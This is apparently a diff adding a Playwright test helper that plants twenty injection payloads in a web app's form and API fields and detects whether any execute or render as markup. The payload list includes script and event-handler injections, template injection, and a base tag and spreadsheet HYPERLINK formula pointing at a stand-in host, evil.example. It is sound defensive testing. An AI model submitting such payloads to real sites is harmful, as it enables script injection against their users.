@@ -1,0 +1,120 @@
+import type { Page } from '@playwright/test';
+
+/** Twenty ways to smuggle a script, markup or a formula into a text; short enough for a name of forty characters. */
+export const PAYLOADS = [
+  '<script>xss()</script>',
+  '<img id=pwn src=x onerror=xss()>',
+  '<svg id=pwn onload=xss()>',
+  '"><b id=pwn onclick=xss()>',
+  "'><i id=pwn onfocus=xss() autofocus>",
+  'javascript:xss()',
+  '<a id=pwn href=javascript:xss()>x</a>',
+  '<iframe id=pwn src=javascript:xss()>',
+  '</script><script>xss()</script>',
+  '</title><img id=pwn src=x onerror=xss()>',
+  "{{constructor.constructor('xss()')()}}",
+  '${xss()}',
+  '<details id=pwn open ontoggle=xss()>',
+  '<math><mtext id=pwn>',
+  '<style id=pwn>*{display:none}</style>',
+  '<base id=pwn href=//evil.example>',
+  '&lt;img id=pwn onerror=xss()&gt;',
+  '\\x3cscript\\x3exss()\\x3c/script\\x3e',
+  'data:text/html,<b id=pwn>',
+  '=HYPERLINK("//evil.example?x","x")',
+] as const;
+
+/** Fields of the data API in which a payload is kept, and which the story fills. */
+export const KEPT = [
+  'claim/save artist_school',
+  'claim/save consultant_name',
+  'claim/save contract_number',
+  'claim/save intro',
+  'claim/save location',
+  'claim/save other_art_genres',
+  'claim/submit artist_school',
+  'claim/submit consultant_name',
+  'claim/submit contract_number',
+  'claim/submit intro',
+  'claim/submit location',
+  'claim/submit other_art_genres',
+  'ip/add core_audience',
+  'ip/add intro',
+  'member/auth real_name',
+  'member/register location',
+  'member/register username',
+];
+
+/** Fields that admit one and keep it nowhere: hashed, compared, searched for. */
+export const NOT_KEPT = /password|^ip\/search keyword$|^common\/getSts folderId$/;
+
+/** Content of an IP, which only whoever works on one can write: not filled by this story yet. */
+export const NOT_YET = /^(gallery\/seriesSave|ip\/update) /;
+
+interface Schema {
+  shape?: Record<string, Schema>;
+  def: { options?: Schema[]; in?: Schema };
+  safeParse: (value: unknown) => { success: boolean; data?: unknown };
+}
+
+/** Names of a schema's fields that take one of the payloads as text. */
+export function openFields(schema: unknown): string[] {
+  const { shape, def } = schema as Schema;
+  const inner = [...(def.options ?? []), ...(def.in ? [def.in] : [])].flatMap(openFields);
+  const own = Object.entries(shape ?? {}).filter(([, field]) =>
+    PAYLOADS.some((payload) => typeof field.safeParse(payload).data === 'string'),
+  );
+  return [...new Set([...inner, ...own.map(([name]) => name)])];
+}
+
+/** What a payload would leave behind if it were read as more than text. */
+const MARKUP =
+  '#pwn, [onerror], [onload], [onclick], [onfocus], [ontoggle], iframe, object, embed, base, math, [srcdoc], a[href^="javascript:" i], a[href^="data:" i]';
+
+/** Notes whatever a payload sets off in a page: a call, a dialog, a breach of the policy, a request of its own. */
+export async function trap(page: Page): Promise<string[]> {
+  const sprung: string[] = [];
+  await page.exposeFunction('xss', () => sprung.push(`ran on ${page.url()}`));
+  await page.exposeFunction('breach', (what: string) => sprung.push(`breach: ${what}`));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
+      (window as unknown as { breach: (what: string) => void }).breach(`${violatedDirective} ${blockedURI}`);
+    });
+  });
+  page.on('dialog', (dialog) => {
+    sprung.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on('request', (request) => {
+    const { hostname, pathname } = new URL(request.url());
+    if (hostname === 'evil.example' || pathname === '/x' || pathname === '/admin/x')
+      sprung.push(`asked for ${request.url()}`);
+  });
+  return sprung;
+}
+
+/** What in the page is markup that came out of a text. */
+export const interpreted = (page: Page): Promise<string[]> =>
+  page.evaluate(
+    (markup) =>
+      [...document.querySelectorAll(markup)].map(
+        (element) => `${location.hash}: ${element.outerHTML.slice(0, 120)}`,
+      ),
+    MARKUP,
+  );
+
+/** The payloads a page shows as what they are: in its text, its fields, or the names of its pictures. */
+export const shown = (page: Page): Promise<number[]> =>
+  page.evaluate(
+    (payloads) => {
+      const fields = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
+        ({ value }) => value,
+      );
+      const names = [...document.querySelectorAll('[alt], [aria-label], [title]')].flatMap((element) =>
+        ['alt', 'aria-label', 'title'].map((name) => element.getAttribute(name) ?? ''),
+      );
+      const all = [document.body.innerText, ...fields, ...names].join('\n');
+      return payloads.flatMap((payload, at) => (all.includes(payload) ? [at] : []));
+    },
+    PAYLOADS as readonly string[],
+  );
